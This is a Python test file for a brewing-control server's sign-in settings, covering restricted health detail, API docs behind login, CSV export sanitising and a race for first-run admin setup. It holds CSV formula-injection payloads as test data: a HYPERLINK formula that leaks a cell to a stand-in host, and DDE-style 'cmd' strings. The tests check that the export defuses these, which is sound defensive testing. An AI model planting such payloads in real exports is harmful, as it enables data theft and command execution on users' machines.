"""With sign-in required: health detail, the API description and the CSV exports give nothing away,
and the first-run page makes exactly one admin however many browsers post at once."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from sqlmodel import select

from bevforge.alarms import history as alarm_history
from bevforge.store import UserRow
from tests.support.live import custom_server
from tests.support.server import LiveServer

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'


def required(doc: dict[str, Any]) -> None:
    doc["auth"] = {"mode": "required"}


@pytest.fixture
async def secured(tmp_path: Path) -> AsyncIterator[LiveServer]:
    async with custom_server(tmp_path, required) as server:
        for name, role in (("vera", "viewer"), ("olga", "operator"), ("tess", "technician")):
            server.runtime.auth.add_user(name, f"{name}-secret-1", role, None)
        server.http.headers["origin"] = server.base_url
        yield server


async def cookies_of(server: LiveServer, name: str) -> httpx.Cookies:
    r = await server.http.post("/api/os/auth/login", json={"username": name, "password": f"{name}-secret-1"})
    assert r.status_code == 200, r.text
    server.http.cookies.clear()
    return r.cookies


async def test_health_detail_is_for_signed_in_technicians(secured: LiveServer) -> None:
    assert (await secured.http.get("/api/os/health")).json() == {"status": "ok"}
    for name in ("vera", "olga"):
        bare = await secured.http.get("/api/os/health", cookies=await cookies_of(secured, name))
        assert bare.status_code == 200 and bare.json() == {"status": "ok"}, name
    detail = (await secured.http.get("/api/os/health", cookies=await cookies_of(secured, "tess"))).json()
    assert detail["status"] == "ok" and {d["deviceId"] for d in detail["drivers"]} >= {"hlt_controller"}
    assert "versions" in detail


async def test_api_description_is_behind_sign_in(secured: LiveServer) -> None:
    spec = await secured.http.get("/openapi.json")
    assert spec.status_code == 401 and spec.json()["error"] == "unauthorized"
    for page in ("/docs", "/redoc"):
        answer = await secured.http.get(page)
        assert answer.status_code == 303 and answer.headers["location"] == f"/login?next={page}"
    cookies = await cookies_of(secured, "vera")
    spec = await secured.http.get("/openapi.json", cookies=cookies)
    assert spec.status_code == 200 and "/api/os/command" in spec.json()["paths"]
    docs = await secured.http.get("/docs", cookies=cookies)
    assert docs.status_code == 200 and "/openapi.json" in docs.text


async def test_a_formula_username_lands_in_the_audit_csv_as_text(secured: LiveServer) -> None:
    failed = await secured.http.post("/api/os/auth/login", json={"username": FORMULA, "password": "whatever-1"})
    assert failed.status_code == 401
    tess = await cookies_of(secured, "tess")
    export = await secured.http.get("/api/os/audit", params={"format": "csv"}, cookies=tess)
    rows = list(csv.DictReader(io.StringIO(export.text)))
    users = [r["user"] for r in rows if r["action"] == "auth.login" and r["result"] == "failed"]
    assert users == ["'" + FORMULA]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_alarm_journal_csv_neutralises_every_formula_start() -> None:
    entries = [{"id": n, "user": start + "cmd|' /C calc'!A0", "comment": start + "1", "value": -4.5}
               for n, start in enumerate(("=", "+", "-", "@", "\t=", "\r="))]
    rows = list(csv.DictReader(io.StringIO(alarm_history.to_csv(entries))))
    assert [r["user"][0] for r in rows] == ["'"] * 6 and [r["comment"][0] for r in rows] == ["'"] * 6
    assert rows[0]["user"] == "'=cmd|' /C calc'!A0"
    assert {r["value"] for r in rows} == {"-4.5"}  # a number stays a number


async def test_six_concurrent_first_runs_make_exactly_one_admin(tmp_path: Path) -> None:
    async with custom_server(tmp_path, required) as server:
        headers = {"origin": server.base_url}
        answers = await asyncio.gather(*(
            server.http.post("/setup", headers=headers, data={"code": server.runtime.auth.setup_code,
                                                              "username": f"root{n}", "password": "first-admin-1"})
            for n in range(6)))
        assert sorted(a.status_code for a in answers) == [303, 409, 409, 409, 409, 409]
        assert {a.json()["error"] for a in answers if a.status_code == 409} == {"already_set_up"}
        with server.runtime.db.session() as session:
            admins = session.exec(select(UserRow)).all()
        assert len(admins) == 1 and admins[0].role == "admin"
